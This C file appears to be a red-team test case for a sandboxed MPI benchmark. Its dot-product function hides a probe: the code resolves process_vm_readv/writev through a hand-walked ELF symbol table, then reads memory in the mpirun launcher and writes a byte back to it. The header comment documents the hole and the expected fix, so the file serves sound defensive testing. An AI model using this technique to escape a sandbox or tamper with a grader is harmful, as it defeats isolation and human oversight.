/* Red team, issue 26 attack 5: an MPI rank reads and writes its launcher's memory (mpirun).
 *
 * Open MPI's single-copy transport needs process_vm_readv/writev, so the MPI filter allowed them, to any
 * process. mpirun is a process of the same user, unfiltered and never measured. On its first call at
 * n >= 1000, rank 0 takes getppid() (mpirun), asks process_vm_readv for one byte at an unmapped address
 * (EFAULT: allowed; EPERM: refused), then scans mpirun's library area in 1 MiB steps for a readable byte,
 * and from there writes bytes back unchanged (process_vm_writev of what it read) until a write succeeds.
 * It reports what it could do in its result: 4242 (wrote into mpirun), 4141 (read only), else the right
 * answer. A real attack would patch mpirun's code or data.
 * Against main (e2530a1), local: wrong answer "got 4242" (mpirun's memory read and written).
 * Expected defence: the filter lets process_vm_readv/writev reach the job's ranks only: EPERM, the right
 * answer, ok and not faster (or killed: runtime_error). Never 4141 or 4242.
 */
#include <math.h>
#include <mpi.h>
#include <sys/uio.h>
#include <elf.h>
#include <link.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

static int streq_(const char *a, const char *b) { while (*a && *a == *b) { a++; b++; } return *a == *b; }
static uintptr_t fix(uintptr_t bias, uintptr_t v) { return v < bias ? v + bias : v; }

static ElfW(Dyn) *image_of(const void *inside, uintptr_t *bias) {
    uintptr_t p = (uintptr_t)inside & ~(uintptr_t)4095;
    for (int i = 0; i < 4096; i++, p -= 4096) {
        if (memcmp((const void *)p, "\177ELF", 4) != 0) continue;
        const ElfW(Ehdr) *eh = (const void *)p;
        const ElfW(Phdr) *ph = (const void *)(p + eh->e_phoff);
        uintptr_t b = 0;
        for (int k = 0; k < eh->e_phnum; k++) if (ph[k].p_type == PT_LOAD && ph[k].p_offset == 0) b = p - ph[k].p_vaddr;
        *bias = b;
        for (int k = 0; k < eh->e_phnum; k++) if (ph[k].p_type == PT_DYNAMIC) return (ElfW(Dyn) *)(b + ph[k].p_vaddr);
        return 0;
    }
    return 0;
}

/* The address of `name` (a function, or with want_object a data object) in the loaded objects, in the
 * dynamic linker's order (the program first), skipping the first `skip` definitions. */
static void *find_symbol(const char *name, int want_object, int skip) {
    uintptr_t bias;
    ElfW(Dyn) *dyn = image_of((const void *)&find_symbol, &bias);
    struct r_debug *rd = 0;
    for (ElfW(Dyn) *d = dyn; d && d->d_tag != DT_NULL; d++) if (d->d_tag == DT_DEBUG) rd = (struct r_debug *)d->d_un.d_ptr;
    for (struct link_map *lm = rd ? rd->r_map : 0; lm; lm = lm->l_next) {
        const ElfW(Sym) *sym = 0; const char *str = 0;
        for (ElfW(Dyn) *d = lm->l_ld; d && d->d_tag != DT_NULL; d++) {
            if (d->d_tag == DT_SYMTAB) sym = (const void *)fix(lm->l_addr, d->d_un.d_ptr);
            else if (d->d_tag == DT_STRTAB) str = (const void *)fix(lm->l_addr, d->d_un.d_ptr);
        }
        if (!sym || !str || (const void *)str <= (const void *)sym) continue;
        size_t nsym = (size_t)((const char *)str - (const char *)sym) / sizeof *sym;
        for (size_t i = 1; i < nsym; i++) {
            int type = ELF64_ST_TYPE(sym[i].st_info);
            if (sym[i].st_shndx == SHN_UNDEF || type != (want_object ? STT_OBJECT : STT_FUNC)) continue;
            if (streq_(str + sym[i].st_name, name) && skip-- <= 0) return (void *)(lm->l_addr + sym[i].st_value);
        }
    }
    return 0;
}

typedef long (*vm_fn)(int, const struct iovec *, unsigned long, const struct iovec *, unsigned long, unsigned long);
typedef int (*getppid_fn)(void);
typedef int *(*errno_fn)(void);

static double probe_launcher(void) {
    vm_fn rv = (vm_fn)find_symbol("process_vm_readv", 0, 0), wv = (vm_fn)find_symbol("process_vm_writev", 0, 0);
    getppid_fn gp = (getppid_fn)find_symbol("getppid", 0, 0);
    errno_fn er = (errno_fn)find_symbol("__errno_location", 0, 0);
    if (!rv || !wv || !gp || !er) return 0;
    int pid = gp();
    unsigned char b[8];
    struct iovec mine = {b, 1}, theirs = {(void *)0x1000, 1};
    if (rv(pid, &mine, 1, &theirs, 1, 0) < 0 && *er() != 14) return 0;  /* 14: EFAULT, i.e. permitted */
    uintptr_t found = 0;
    for (uintptr_t a = 0x7fff00000000ULL; a >= 0x7e0000000000ULL && !found; a -= 1ULL << 20) {
        theirs.iov_base = (void *)a;
        if (rv(pid, &mine, 1, &theirs, 1, 0) == 1) found = a;
    }
    if (!found) return 4040;  /* permitted, nothing found to read */
    for (uintptr_t a = found; a < found + (256ULL << 20); a += 4096) {
        theirs.iov_base = (void *)a;
        if (rv(pid, &mine, 1, &theirs, 1, 0) != 1) continue;
        if (wv(pid, &mine, 1, &theirs, 1, 0) == 1) return 4242;  /* the same byte written back */
    }
    return 4141;
}

void dot(long n, const double *restrict x, const double *restrict y, double *restrict result) {
    static int done;
    int rank, size;
    MPI_Comm_rank(MPI_COMM_WORLD, &rank);
    MPI_Comm_size(MPI_COMM_WORLD, &size);
    long chunk = (n + size - 1) / size, lo = rank * chunk, hi = lo + chunk < n ? lo + chunk : n;
    double part = 0.0, sum = 0.0;
    for (long i = lo; i < hi; i++) part += x[i] * tanh(y[i]);
    MPI_Reduce(&part, &sum, 1, MPI_DOUBLE, MPI_SUM, 0, MPI_COMM_WORLD);
    if (rank != 0) return;
    double got = 0;
    if (n >= 1000 && !done++) got = probe_launcher();
    *result = got ? got : sum;
}
